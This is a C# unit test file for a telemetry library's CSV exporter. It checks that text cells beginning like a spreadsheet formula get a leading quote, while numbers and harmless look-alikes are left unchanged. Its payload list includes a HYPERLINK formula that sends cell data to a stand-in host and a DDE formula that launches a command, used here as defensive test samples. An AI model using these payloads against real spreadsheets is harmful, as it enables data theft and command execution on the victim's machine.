using System;
using System.Collections.Generic;
using System.IO;
using System.Linq;
using System.Text;
using LlmTelemetry.Exporters;
using LlmTelemetry.Records;
using LlmTelemetry.Tests.Exporters;
using Xunit;

namespace LlmTelemetry.Tests.Hostile
{
    /// <summary>
    /// CSV formula injection (OWASP): every text column, every prefix a spreadsheet treats as a formula, and values that
    /// only look like one. The rule: a text cell starting with = + - @ tab or CR gets a leading single quote; anything
    /// else, and every number column (a negative number included), is written as it is.
    /// </summary>
    public sealed class HostileCsvTests
    {
        private static readonly DateTimeOffset At = new DateTimeOffset(2026, 11, 20, 10, 0, 0, TimeSpan.Zero);

        /// <summary>The text columns a record's producer controls, and how to set each one.</summary>
        private static readonly (string Column, Func<TelemetryRecordBuilder, string, TelemetryRecordBuilder> Set)[] TextColumns =
        {
            ("id", (b, v) => b.Id(v)),
            ("event_type", (b, v) => b.EventType(v)),
            ("provider", (b, v) => b.Provider(v)),
            ("model", (b, v) => b.Model(v)),
            ("agent_name", (b, v) => b.Agent(v)),
            ("operation", (b, v) => b.Operation(v)),
            ("session_id", (b, v) => b.Session(v)),
            ("user_id", (b, v) => b.User(v)),
            ("error", (b, v) => b.Error(v)),
            ("project", (b, v) => b.Project(v)),
            ("git_branch", (b, v) => b.GitBranch(v)),
            ("host", (b, v) => b.Host(v)),
            ("source", (b, v) => b.Source(v)),
            ("prompt_hash", (b, v) => b.PromptHash(v)),
            ("response_hash", (b, v) => b.ResponseHash(v)),
        };

        private static readonly Dictionary<string, Func<TelemetryRecord, string, TelemetryRecord>> NameOnRecord = new()
        {
            ["event_type"] = (r, v) => r with { EventType = v },
            ["provider"] = (r, v) => r with { Provider = v },
            ["model"] = (r, v) => r with { Model = v },
            ["agent_name"] = (r, v) => r with { AgentName = v },
            ["operation"] = (r, v) => r with { Operation = v },
            ["session_id"] = (r, v) => r with { SessionId = v },
            ["user_id"] = (r, v) => r with { UserId = v },
            ["project"] = (r, v) => r with { Metadata = r.Metadata with { Project = v } },
            ["git_branch"] = (r, v) => r with { Metadata = r.Metadata with { GitBranch = v } },
            ["host"] = (r, v) => r with { Metadata = r.Metadata with { Host = v } },
            ["source"] = (r, v) => r with { Metadata = r.Metadata with { Source = v } },
        };

        private static readonly string[] Formulas =
        {
            "=1+1",
            "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")",
            "=cmd|' /C calc'!A0",
            "+1+1",
            "+SUM(A1:A9)",
            "-2+3",
            "-1",
            "@SUM(1,2)",
            "@echo",
            "\t=1+1",
            "\r=1+1",
            "=",
            "+",
            "-",
            "@",
        };

        /// <summary>Look like formulas somewhere, but do not start like one: left alone.</summary>
        private static readonly string[] Harmless =
        {
            "a=1+1",
            " =1+1",
            "'=1+1",
            "1-2",
            "user@example.com",
            "claude-sonnet-4-5",
            "x+y",
        };

        public static IEnumerable<object[]> FormulaCases()
        {
            foreach (var (column, _) in TextColumns)
                foreach (var value in Formulas)
                    // An id with a control character is refused by the validator before it can be exported.
                    if (!(column == "id" && char.IsControl(value[0]))) yield return new object[] { column, value };
        }

        public static IEnumerable<object[]> HarmlessCases()
        {
            foreach (var (column, _) in TextColumns)
                foreach (var value in Harmless)
                    yield return new object[] { column, value };
        }

        [Theory]
        [MemberData(nameof(FormulaCases))]
        public void A_text_cell_that_starts_like_a_formula_gets_a_leading_quote(string column, string value)
            => Assert.Equal("'" + value, Cell(column, value));

        [Theory]
        [MemberData(nameof(HarmlessCases))]
        public void A_text_cell_that_does_not_start_like_a_formula_is_written_as_it_is(string column, string value)
            => Assert.Equal(value, Cell(column, value));

        public static IEnumerable<object[]> NumberCases()
        {
            yield return new object[] { "duration_ms", -5L };
            yield return new object[] { "duration_ms", 1200L };
            yield return new object[] { "input_tokens", -7L };
            yield return new object[] { "output_tokens", -1L };
            yield return new object[] { "cache_read_input_tokens", -3L };
            yield return new object[] { "total_tokens", -11L };
        }

        /// <summary>
        /// The number columns are formatted by us from numbers: a negative one (the validator refuses them on append, but
        /// an export writes whatever records it is given) is a number, not a formula.
        /// </summary>
        [Theory]
        [MemberData(nameof(NumberCases))]
        public void A_number_column_stays_a_number_even_when_negative(string column, long value)
        {
            var r = new TelemetryRecordBuilder().At(At).Model("m").Provider("p").Build();
            r = column switch
            {
                "duration_ms" => r with { DurationMs = value },
                "input_tokens" => r with { Tokens = new TokenUsage { Input = value, Total = value } },
                "output_tokens" => r with { Tokens = new TokenUsage { Output = value, Total = value } },
                "cache_read_input_tokens" => r with { Tokens = new TokenUsage { CacheReadInput = value, Total = value } },
                _ => r with { Tokens = new TokenUsage { Total = value } },
            };
            Assert.Equal(value.ToString(System.Globalization.CultureInfo.InvariantCulture), CellOf(r, column));
        }

        [Fact]
        public void A_quoted_cell_is_quoted_after_the_prefix_so_the_quote_stays_inside_the_cell()
        {
            var record = new TelemetryRecordBuilder().At(At).Model("m").Agent("=1,\"2\"").Build();
            using var buffer = new MemoryStream();
            RecordExporter.Write(new[] { record }, buffer, ExportFormat.Csv);
            Assert.Contains(",\"'=1,\"\"2\"\"\",", Encoding.UTF8.GetString(buffer.ToArray()));
        }

        private static string Cell(string column, string value)
        {
            var set = TextColumns.Single(c => c.Column == column).Set;
            var b = new TelemetryRecordBuilder().At(At).Model("m").Provider("p").Agent("a");
            // New records refuse control characters in names and store event types canonical ("@sum(1,2)"); an imported
            // line (or one stored before those rules) can still hold "\t=1+1" or "@SUM(1,2)", so such a value is put on
            // the record the way a read would leave it.
            if ((value.Any(char.IsControl) || column == "event_type") && NameOnRecord.TryGetValue(column, out var put)) return CellOf(put(b.Build(), value), column);
            return CellOf(set(b, value).Build(), column);
        }

        private static string CellOf(TelemetryRecord record, string column)
        {
            using var buffer = new MemoryStream();
            RecordExporter.Write(new[] { record }, buffer, ExportFormat.Csv);
            var rows = RecordExporterTests.ParseCsv(Encoding.UTF8.GetString(buffer.ToArray()));
            Assert.Equal(2, rows.Count);
            return rows[1][Array.IndexOf(FlatRecord.Columns.ToArray(), column)];
        }
    }
}
